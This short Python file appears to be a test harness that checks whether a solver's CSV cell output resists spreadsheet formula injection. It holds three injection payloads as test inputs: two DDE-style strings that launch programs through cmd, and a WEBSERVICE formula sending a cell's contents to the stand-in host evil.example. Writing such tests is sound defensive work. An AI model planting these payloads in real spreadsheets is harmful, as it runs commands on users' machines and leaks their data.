import csv
import io


def computed(outcome):
    """The first cell that a spreadsheet would compute, or None."""
    if not isinstance(outcome.value, str):
        return None
    for row in csv.reader(io.StringIO(outcome.value)):
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@"):
                return cell
    return None


def exploit_at_sign(solver, workspace):
    cell = computed(solver.attempt("csv_cell", "@SUM(1+9)*cmd|'/C notepad'!A1"))
    if cell:
        return f"the spreadsheet computes {cell}"


def exploit_minus_sign(solver, workspace):
    cell = computed(solver.attempt("csv_cell", "-2+3+cmd|' /C calc'!D2"))
    if cell:
        return f"the spreadsheet computes {cell}"


def exploit_doubled_equals_sign(solver, workspace):
    cell = computed(solver.attempt("csv_cell", '==WEBSERVICE("http://evil.example/?"&B2)'))
    if cell:
        return f"the spreadsheet computes {cell}"
